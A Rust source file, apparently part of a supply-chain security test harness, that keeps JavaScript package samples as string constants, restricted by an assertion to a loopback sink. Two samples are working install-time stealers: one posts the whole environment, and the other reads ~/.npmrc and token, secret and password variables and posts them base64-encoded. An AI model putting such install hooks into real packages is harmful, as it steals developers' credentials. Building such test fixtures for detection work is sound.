//! Sources that the scenarios put into tarballs. They are string constants so that nothing in a
//! checkout runs, lints or bundles them, and the only address any of them knows is the one that
//! [`aimed_at`] writes in: a [`crate::Sink`] on loopback.

/// Install-time code that sends the whole environment away (INCIDENTS codes B1 and B4).
pub const WHOLE_ENVIRONMENT: &str = r"'use strict';

const http = require('http');
const os = require('os');

const report = JSON.stringify({
  host: os.hostname(),
  folder: process.cwd(),
  environment: process.env,
});
const request = http.request('{SINK}collect', {
  method: 'POST',
  headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(report) },
});
request.on('error', () => {});
request.end(report);
";

/// Install-time code that reads `~/.npmrc` and secrets from the environment and sends them away
/// (INCIDENTS codes B1, B2 and B4).
pub const NPM_CREDENTIALS: &str = r"'use strict';

const fs = require('fs');
const http = require('http');
const os = require('os');
const path = require('path');

const found = {};
try {
  found.npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
} catch {
  found.npmrc = null;
}
for (const [name, value] of Object.entries(process.env)) {
  if (/TOKEN|SECRET|PASSWORD|KEY/i.test(name)) {
    found[name] = value;
  }
}
const body = Buffer.from(JSON.stringify(found)).toString('base64');
const request = http.request('{SINK}metrics', { method: 'POST' });
request.on('error', () => {});
request.end(body);
";

/// What a genuine package of the same kind looks like: no reach beyond its arguments.
pub const QUERY_LIBRARY: &str = r"'use strict';

class QueryClient {
  constructor(options) {
    this.options = options || {};
    this.cache = new Map();
  }

  get(key) {
    return this.cache.get(JSON.stringify(key));
  }

  set(key, value) {
    this.cache.set(JSON.stringify(key), value);
    return value;
  }
}

module.exports = { QueryClient };
";

/// A formatter: the harmless body of the packages that histories are made of.
pub const FORMATTER: &str = r"'use strict';

module.exports = function format(amount, currency) {
  const fixed = Number(amount).toFixed(2);
  return currency ? `${fixed} ${currency}` : fixed;
};
";

/// The benign install hook of a native package: looks for a prebuilt file beside itself.
pub const PREBUILT_LOOKUP: &str = r"'use strict';

const fs = require('fs');
const path = require('path');

const target = path.join(__dirname, 'prebuilds', `${process.platform}-${process.arch}`);
console.log(fs.existsSync(target) ? 'prebuilt files found' : 'using the portable build');
";

/// Writes the sink's address (with its closing slash) into a sample.
///
/// # Panics
/// When the address is not on loopback: samples never address anything else.
pub fn aimed_at(sample: &str, sink: &str) -> String {
    assert!(
        sink.starts_with("http://127.0.0.1:") && sink.ends_with('/'),
        "{sink} is not a sink on loopback"
    );
    sample.replace("{SINK}", sink)
}
